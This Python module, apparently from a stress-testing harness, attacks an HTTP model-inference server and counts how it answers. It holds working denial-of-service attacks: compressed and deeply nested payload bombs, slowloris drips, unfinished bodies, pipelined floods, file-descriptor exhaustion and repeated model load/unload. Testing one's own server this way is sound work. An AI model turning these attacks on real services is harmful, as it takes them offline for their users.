"""Attacks on the HTTP port. Each goes on until it is cancelled."""

import asyncio
from collections.abc import Awaitable, Callable, Coroutine, Mapping
from functools import partial
from shutil import rmtree
from typing import Any

from . import payloads
from .target import Target, head, repeat

GZIP = {"Content-Encoding": "gzip"}
FORM = {"Content-Type": f"multipart/form-data; boundary={payloads.BOUNDARY}"}
CLIENTS = 40
SLOW_CLIENTS = 200
UNFINISHED_BYTES = 30_000_000
STEP = 0.005  # seconds after which a client crashes or cancels: before, during or after its answer
TICK = 0.2  # seconds between two steps of a slow client


def posts(
    endpoint: str,
    payload: Callable[[], bytes],
    clients: int,
    headers: Mapping[str, str] | None = None,
) -> Callable[[Target], Awaitable[None]]:
    """Return the attack of clients that send a body to an endpoint again and again."""

    async def attack(target: Target) -> None:
        path, body = getattr(target, endpoint), payload()
        await repeat(target, clients, lambda: target.post(path, body, headers))

    return attack


_NESTED = partial(payloads.packed_lists, "[[[[[[[[]]]]]]]]")
gzip_bodies = posts("predict", partial(payloads.packed_lists, "[0]"), CLIENTS, GZIP)
one_json_body = posts("predict", _NESTED, 1, GZIP)
json_bodies = posts("predict", _NESTED, 8, GZIP)
plain_json = posts("predict", partial(payloads.lists, "[]"), 4)
nested_v2_json = posts("infer", payloads.nested_v2, 4)
progressive_jpegs = posts("classify", payloads.progressive_jpeg, 2)
large_jpegs = posts("classify", payloads.large_jpeg, 8)
narrow_pngs = posts("classify", payloads.narrow_png, 4)
photographs = posts("classify", payloads.photographs, 2, FORM)


async def unfinished_bodies(target: Target) -> None:
    """Send 30 of 31 MB, as far as the server reads, and wait for the end."""
    body = bytes(UNFINISHED_BYTES)

    async def client() -> None:
        async with target.http() as (reader, writer):
            head_ = head(target.predict, len(body) + 1_000_000)
            await _until_answer(target, reader, target.burst.send(writer, head_ + body))

    await repeat(target, CLIENTS, client)


async def admin_loads(target: Target) -> None:
    """Unload and load a model, again and again."""
    path = f"/v2/repository/models/{target.spare}"

    async def client() -> None:
        await target.post(f"{path}/unload", b"{}")
        await target.post(f"{path}/load", b"{}")

    await repeat(target, 8, client)


async def endless_graph(target: Target) -> None:
    """Publish versions of another model, each of which would run for years."""
    from .endless import publish_endless  # onnx takes a second

    folder = target.models / "endless"
    try:
        for version in range(1, 1000):
            await asyncio.to_thread(publish_endless, folder / str(version))
            await asyncio.sleep(3)
    finally:
        rmtree(folder, ignore_errors=True)


async def slow_heads(target: Target) -> None:
    """Send a request's head byte by byte: slowloris."""

    async def client() -> None:
        async with target.http() as (reader, writer):
            writer.write(f"POST {target.classify} HTTP/1.1\r\nHost: x\r\nX-Slow: ".encode())
            await _until_answer(target, reader, _drip(writer))

    await repeat(target, SLOW_CLIENTS, client)


async def pipelining(target: Target) -> None:
    """Send requests without an end, and read no answer."""
    body = payloads.png(target.side)
    requests = (head(target.classify, len(body)) + body) * 50

    async def client() -> None:
        async with target.http() as (_, writer):
            writer.transport.pause_reading()  # type: ignore[attr-defined]
            await _repeat_content(target, writer, requests)

    await repeat(target, 4, client)


async def one_byte_chunks(target: Target) -> None:
    chunks = b"1\r\n \r\n" * 10_000

    async def client() -> None:
        async with target.http() as (reader, writer):
            writer.write(head(target.predict, None))
            await _until_answer(target, reader, _repeat_content(target, writer, chunks))

    await repeat(target, 8, client)


async def slow_clients(target: Target) -> None:
    """Send 100 bodies and read the answers to 100 requests, by a few bytes at a time."""
    openapi = b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 4

    async def sender() -> None:
        async with target.http() as (reader, writer):
            writer.write(head(target.classify, 1_000_000))
            await _until_answer(target, reader, _drip(writer))

    async def receiver() -> None:
        async with target.http(receive_buffer=4096) as (reader, writer):
            writer.write(openapi)
            while await reader.read(100):
                await asyncio.sleep(TICK)

    async with asyncio.TaskGroup() as group:
        for client in (sender, receiver):
            group.create_task(repeat(target, SLOW_CLIENTS // 2, client))


async def open_connections(target: Target) -> None:
    """Open connections to both ports until the server has no file descriptor left."""

    async def client() -> None:
        async with target.http() as (reader, _), target.http2() as connection:
            await _until_answer(target, reader, connection.until_closed())

    await repeat(target, 400, client)


async def reconnects(target: Target) -> None:
    """Send right requests, each on a connection of its own."""
    body = payloads.png(target.side)
    await repeat(target, 8, lambda: target.post(target.classify, body))


async def crashes(target: Target) -> None:
    """End connections by a reset: in a request's head, in its body, and before its answer."""
    body = payloads.png(target.side)
    request = head(target.classify, len(body)) + body
    lengths = [10, 100, len(request) - 10, len(request)]

    async def client() -> None:
        for length in lengths:
            async with target.http() as (_, writer):
                writer.write(request[:length])
                await asyncio.sleep(STEP)

    await repeat(target, 8, client)


async def _drip(writer: asyncio.StreamWriter) -> None:
    while True:
        writer.write(b"a")
        await asyncio.sleep(TICK)


async def _repeat_content(target: Target, writer: asyncio.StreamWriter, content: bytes) -> None:
    while True:
        await target.flood.send(writer, content)


async def _until_answer(
    target: Target, reader: asyncio.StreamReader, sending: Coroutine[Any, Any, None]
) -> None:
    """Send until the server answers or closes, and count which."""
    sender = asyncio.create_task(sending)
    try:
        line = await reader.readline()
        target.answers[line.split()[1].decode() if line else "closed"] += 1
    finally:
        sender.cancel()
        await asyncio.gather(sender, return_exceptions=True)
